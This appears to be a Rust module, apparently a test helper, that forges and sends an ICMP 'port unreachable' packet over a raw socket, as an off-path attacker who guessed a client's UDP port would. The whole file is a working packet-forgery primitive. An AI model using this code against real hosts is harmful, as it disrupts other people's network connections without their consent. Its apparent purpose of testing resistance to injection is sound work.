//! A forged ICMP "port unreachable", as an off-path attacker who guessed a
//! client's port would send it. Needs a raw socket (root).

use std::net::{SocketAddr, SocketAddrV4};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// Tell `client` that its datagram to `server` found no listener. IPv4
/// only; the kernel adds the outer IP header.
pub(crate) fn forge_port_unreachable(
    client: SocketAddr,
    server: SocketAddr,
) -> std::io::Result<()> {
    let (SocketAddr::V4(client), SocketAddr::V4(server)) = (client, server) else {
        return Err(std::io::Error::other("ICMP forgery is IPv4 only"));
    };
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::ICMPV4))?;
    let packet = port_unreachable(client, server);
    socket.send_to(&packet, &SockAddr::from(client))?;
    Ok(())
}

/// ICMP type 3 code 3 quoting the IP and UDP headers of the datagram the
/// client sent: the kernel matches those to the client's socket.
fn port_unreachable(client: SocketAddrV4, server: SocketAddrV4) -> Vec<u8> {
    let quoted = crate::raw::packet(client.into(), server.into(), &[]);
    let mut icmp = vec![3, 3, 0, 0, 0, 0, 0, 0];
    icmp.extend_from_slice(&quoted);
    let sum = crate::raw::checksum(&icmp);
    icmp[2..4].copy_from_slice(&sum.to_be_bytes());
    icmp
}
